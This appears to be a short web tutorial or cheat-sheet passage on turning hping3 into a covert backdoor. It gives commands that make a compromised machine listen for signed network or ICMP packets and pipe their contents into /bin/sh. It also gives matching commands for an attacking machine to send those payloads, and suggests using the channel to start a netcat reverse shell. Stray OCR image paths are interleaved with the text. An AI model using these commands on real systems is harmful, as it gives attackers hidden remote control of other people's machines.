Skip to main content


In this case we want to be able to execute a command on a remote machine only if a specific signature is met, in this example the signature is the string "secret". This can be done with:

hping3 -I wlan0 -9 secret | /bin/shFrom another machine we can create a file called commands file and insert the command that we want (also a netcat reverse shell ;) ) and then we can do:

hping3 -R -e secret -E commands_file -d 100 -c 1
# -c 1, is the number of times the command will be executed

Executing Commmands through ICMP

We can execute remote commands on a machine (but without getting the output back) by doing on the backdoored machine:

sudo hping <ip_1> --listen signature --safe -1 | /bin/sh

While on the attacking machine:

sudo hping <ip_2> -d 100 -1 --sign signature --file./test.cmd

Again this can be used to launch a netcat istance or whatever thing we like.